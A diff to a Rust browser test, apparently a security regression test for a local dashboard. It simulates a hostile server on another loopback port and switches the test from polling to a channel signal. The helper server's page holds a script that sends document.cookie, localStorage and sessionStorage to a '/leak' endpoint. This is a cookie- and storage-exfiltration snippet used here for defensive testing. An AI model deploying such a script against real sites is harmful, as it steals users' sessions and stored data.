@@ -181,11 +181,12 @@ async fn screenshot(c: &Client) {
 
 /// A server on another loopback port, as any local user may run: it keeps the head of every request it gets, and
 /// answers with a page that sends back what a page of its own origin can read (`document.cookie`, both storages).
-fn other_server() -> (u16, Arc<Mutex<String>>) {
+fn other_server() -> (u16, Arc<Mutex<String>>, std::sync::mpsc::Receiver<()>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
     let seen = Arc::new(Mutex::new(String::new()));
     let keep = Arc::clone(&seen);
+    let (reported, report) = std::sync::mpsc::channel();
     std::thread::spawn(move || {
         for conn in listener.incoming() {
             let Ok(mut conn) = conn else { continue };
@@ -193,6 +194,9 @@ fn other_server() -> (u16, Arc<Mutex<String>>) {
             let mut r = BufReader::new(conn.try_clone().unwrap());
             while r.read_line(&mut head).is_ok_and(|n| n > 2) {}
             keep.lock().unwrap().push_str(&head);
+            if head.starts_with("GET /leak") {
+                let _ = reported.send(());
+            }
             let page = "<!doctype html><title>other</title><script>fetch('/leak?' + encodeURIComponent(\
                         document.cookie + ' ' + JSON.stringify(localStorage) + ' ' + JSON.stringify(sessionStorage)))\
                         </script>";
@@ -203,7 +207,7 @@ fn other_server() -> (u16, Arc<Mutex<String>>) {
             );
         }
     });
-    (port, seen)
+    (port, seen, report)
 }
 
 /// The attack of issue 38: a browser logged in to the dashboard visits a page on another port of 127.0.0.1. Before,
@@ -216,18 +220,14 @@ fn a_server_on_another_loopback_port_gets_nothing_that_opens_the_dashboard() {
     let Some(driver) = driver() else { return };
     let home = Home::new();
     let d = Served::start(&home, &[]);
-    let (other, seen) = other_server();
+    let (other, seen, report) = other_server();
     let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
     rt.block_on(async {
         let c = browser(&driver).await;
         c.goto(&d.url()).await.unwrap();
         appears(&c, "#live.on", Duration::from_secs(5)).await;
         c.goto(&format!("http://127.0.0.1:{other}/")).await.unwrap();
-        let start = Instant::now();
-        while !seen.lock().unwrap().contains("GET /leak") {
-            assert!(start.elapsed() < Duration::from_secs(10), "the other page did not report");
-            tokio::time::sleep(Duration::from_millis(20)).await;
-        }
+        report.recv_timeout(Duration::from_secs(10)).expect("the other page reports what it can read");
         // Back to the dashboard without the token in the address: the page is shown, live.
         c.goto(&d.base).await.unwrap();
         appears(&c, "#live.on", Duration::from_secs(5)).await;
